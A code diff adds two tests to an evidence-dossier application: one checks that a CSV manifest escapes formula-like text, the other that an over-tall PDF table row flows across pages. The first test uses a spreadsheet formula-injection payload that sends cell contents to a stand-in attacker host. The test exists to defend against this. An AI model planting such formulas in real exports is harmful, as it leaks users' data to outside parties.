@@ -273,6 +273,54 @@ def test_pack_holds_the_pdf_every_original_by_mark_and_manifests_that_match(case
     assert {row["mark"]: row["incidents"] for row in rows} == {"AJ/1": "1", "AJ/2": "2", "AJ/3": "3", "AJ/4": ""}
 
 
+def test_manifest_csv_shows_formula_like_text_as_text_and_json_keeps_it_as_typed(case, owner):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    services.evidence_attach(
+        user=owner,
+        case=case,
+        kind="letter",
+        description="Letter",
+        obtained_from=formula,
+        uploaded_file=upload("n.txt", NOTE),
+    )
+    dossier = compile_now(case, owner)
+    archive = zipfile.ZipFile(io.BytesIO(evidence_store.read_all(case, dossier.pack_name)))
+    [csv_row] = csv.DictReader(io.StringIO(archive.read("manifest.csv").decode()))
+    [json_row] = json.loads(archive.read("manifest.json"))["exhibits"]
+    assert csv_row["obtained"] == "'" + formula
+    assert json_row["obtained"] == formula
+
+
+def test_a_row_taller_than_a_page_flows_on_instead_of_failing_the_dossier():
+    from reportlab.platypus import SimpleDocTemplate
+
+    from dossiers import pdf
+
+    pdf.register_fonts()
+    st = pdf.styles()
+    long_text = " ".join(f"Changed (version {n}) by Alex Jones (audit event {n})." for n in range(1, 700))
+    out = io.BytesIO()
+    doc = SimpleDocTemplate(out)
+    height = doc.height - 12
+    rows = [
+        pdf.Row(
+            [[(pdf._Paragraph("1. A short one", st["body"]), 100), (pdf._Paragraph("Logged", st["small"]), 300)]],
+            page_height=height,
+        ),
+        pdf.Row(
+            [[(pdf._Paragraph("2. Changed a lot", st["body"]), 100), (pdf._Paragraph(long_text, st["small"]), 300)]],
+            page_height=height,
+        ),
+    ]
+    doc.build(rows)
+    text = subprocess.run(
+        ["pdftotext", "-", "-"], input=out.getvalue(), capture_output=True, check=True
+    ).stdout.decode()
+    assert doc.page >= 2
+    assert "1. A short one" in text and "2. Changed a lot" in text
+    assert "(version 699)" in text  # nothing of the long row was lost
+
+
 @pytest.fixture
 def about_ella(owner):
     case = services.case_create(user=owner, title="Reports about Ella and our family")
